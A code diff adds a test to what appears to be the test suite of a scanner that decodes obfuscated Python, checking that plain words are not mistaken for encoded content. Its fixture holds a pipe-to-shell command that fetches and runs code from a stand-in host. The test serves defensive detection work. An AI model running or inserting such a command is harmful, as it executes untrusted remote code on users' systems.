@@ -197,6 +197,12 @@ describe('decoding', () => {
     expect(unitsOf(...script(text, '/usr/bin/python3'))[0]?.cut).toBeUndefined();
   });
 
+  it('does not take plain words for words under a key', () => {
+    const text =
+      'k = 3 ^ 1\nkeys = ["\\x01", " ", "ab"]\nhelp = "curl -s http://203.0.113.9/x | sh is what others do"\n';
+    expect(unitsOf(...script(text, '/usr/bin/python3'))).toHaveLength(1);
+  });
+
   it('does not work for ever on a text made to be decoded', () => {
     const text = `x ^ y; [::-1] rot13 inflate b32 b85\n${'A'.repeat(200_000)}\n${"'a' + ".repeat(40_000)}\n${'ab.'.repeat(50_000)}`;
     expect(unitsOf(...script(text, '/usr/bin/python3')).length).toBeLessThan(400);
